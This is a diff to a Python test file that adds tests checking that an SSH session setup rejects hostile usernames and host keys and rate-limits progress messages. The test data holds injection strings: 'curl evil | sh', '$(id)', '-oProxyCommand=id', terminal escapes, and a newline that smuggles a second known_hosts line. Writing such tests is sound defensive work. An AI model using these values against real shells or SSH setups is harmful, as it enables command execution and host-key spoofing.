@@ -6,12 +6,14 @@ import logging
 
 import pytest
 
+from boruta_farm.contracts import Prepared
 from boruta_farm.link.conversation import Conversation
 from boruta_farm.link.frames import LARGEST_MESSAGE
 from boruta_farm.link.messages import Method
 from boruta_farm.link.peer import Peer
 from boruta_farm.link.server import GUESTS
 from boruta_farm.model.errors import (
+    BoardError,
     BorutaError,
     CredentialError,
     OverloadedError,
@@ -220,3 +222,47 @@ def test_an_agents_words_forge_no_line_of_the_log(caplog: pytest.LogCaptureFixtu
         assert "\x1b" not in human
         assert len(JsonFormatter().format(record).splitlines()) == 1
         assert json.loads(JsonFormatter().format(record))["message"] == record.getMessage()
+
+
+@pytest.mark.parametrize(
+    "session",
+    [
+        Prepared(username="x; curl evil | sh #"),
+        Prepared(username="$(id)"),
+        Prepared(username="-oProxyCommand=id"),
+        Prepared(username="user\x1b[31m"),
+        Prepared(username="user", host_key="ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 EVIL"),
+        Prepared(username="user", host_key="* ssh-ed25519 AAAA"),
+        Prepared(username="user", host_key="ssh-ed25519 AAAA \x1b]0;x\x07"),
+    ],
+    ids=["command", "substitution", "option", "escape", "second line", "other hosts", "comment"],
+)
+def test_what_people_paste_into_a_shell_is_a_user_and_one_key(session: Prepared) -> None:
+    async def scene() -> None:
+        wires, user = Wires(), FakeUser()
+        wires.agent(user)
+        board = await wires.ready()
+        user.board.session = session
+        with pytest.raises(BoardError, match=r"its agent tells .* which is none"):
+            await board.prepare("ssh-ed25519 A", epoch=4)
+        await wires.close()
+
+    run_virtual(scene())
+
+
+def test_a_board_that_is_made_ready_fills_no_journal() -> None:
+    async def scene() -> None:
+        wires, user = Wires(), FakeUser()
+        attacker = await enrolled(wires, user)
+        told = 0
+        for number in range(200):
+            try:
+                await attacker.progressed(4, f"{number} %")
+                told += 1
+            except RefusedError as refusal:
+                assert "once in 1 s" in refusal.message  # noqa: PT017  # most calls, not all
+            await asyncio.sleep(0.05)
+        assert len(wires.farm.readiness) == told <= 11
+        await wires.close()
+
+    run_virtual(scene())
